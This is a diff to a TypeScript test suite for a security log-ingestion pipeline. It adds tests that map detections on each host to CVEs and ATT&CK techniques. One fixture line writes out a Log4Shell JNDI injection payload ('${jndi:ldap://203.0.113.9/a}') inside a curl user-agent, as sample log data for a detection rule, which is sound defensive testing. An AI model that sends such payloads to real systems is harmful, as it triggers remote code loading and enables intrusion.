@@ -5,6 +5,7 @@ import {
   type Chunk,
   type EventRow,
   FINAL_STATUSES,
+  hostSightings,
   type IngestLogDeps,
   ingestLogObject,
   ingestS3Event,
@@ -191,6 +192,7 @@ describe("ingestLogObject", () => {
             lastSeen: times[2],
           },
         ],
+        vulnerabilities: [],
         addresses: [{ host: "ws1", ip: "10.0.0.1", firstSeen: "a", lastSeen: "b" }],
       },
     ]);
@@ -294,6 +296,54 @@ describe("ingestLogObject", () => {
     expect(b.warnings).toEqual([
       expect.stringMatching(/^metadata ignored: s3:\/\/b\/raw-logs\/b\.yml: attack_techniques\.0/),
       "x-amz-meta-dataset-metadata names s3://b/raw-logs/otrf/missing.yaml, which does not exist",
+    ]);
+  });
+});
+
+describe("the graph's host sightings", () => {
+  it("links a host to the CVE a rule that fired names, beside the rule's technique", async () => {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
+    const jndi = (i: number) => line(i, { CommandLine: "curl -A '${jndi:ldap://203.0.113.9/a}' http://x" });
+    const w = world({ "raw-logs/j.json": { text: [jndi(1), line(2), jndi(4)].join("\n") } });
+    await ingestLogObject(w.deps, ref("raw-logs/j.json"), options);
+    const times = [...w.events.values()].map((e) => e.event_time);
+    const [merged] = w.graph as Array<{ techniques: unknown[]; vulnerabilities: unknown[] }>;
+    const log4shell = {
+      host: "ws1",
+      rules: ["log4shell-jndi-lookup"],
+      firstSeen: times[0],
+      lastSeen: times[2],
+    };
+    expect(merged?.vulnerabilities).toEqual([{ ...log4shell, cve: "CVE-2021-44228" }]);
+    expect(merged?.techniques).toEqual([{ ...log4shell, technique: "T1190" }]);
+  });
+
+  it("groups by host and target, widens the span, names each rule once and skips what has no host", () => {
+    const rule = (id: string, technique: string, cve?: string) =>
+      ({ id, technique, cve }) as unknown as Detection["rule"];
+    const d = (host: string | null, r: Detection["rule"], first: string, last: string): Detection => ({
+      rule: r,
+      host,
+      evidence: [],
+      evidenceCount: 1,
+      firstEventAt: first,
+      lastEventAt: last,
+    });
+    const a = rule("a", "T1190", "CVE-2021-44228");
+    const b = rule("b", "T1190");
+    const detections = [
+      d("h1", a, "2020-01-02", "2020-01-03"),
+      d("h1", b, "2020-01-01", "2020-01-02"),
+      d("h1", a, "2020-01-02", "2020-01-05"),
+      d("h2", b, "2020-01-04", "2020-01-04"),
+      d(null, a, "2020-01-01", "2020-01-09"),
+    ];
+    expect(hostSightings(detections, (x) => x.rule.technique)).toEqual([
+      { host: "h1", target: "T1190", rules: ["a", "b"], firstSeen: "2020-01-01", lastSeen: "2020-01-05" },
+      { host: "h2", target: "T1190", rules: ["b"], firstSeen: "2020-01-04", lastSeen: "2020-01-04" },
+    ]);
+    expect(hostSightings(detections, (x) => x.rule.cve)).toEqual([
+      { host: "h1", target: "CVE-2021-44228", rules: ["a"], firstSeen: "2020-01-02", lastSeen: "2020-01-05" },
     ]);
   });
 });
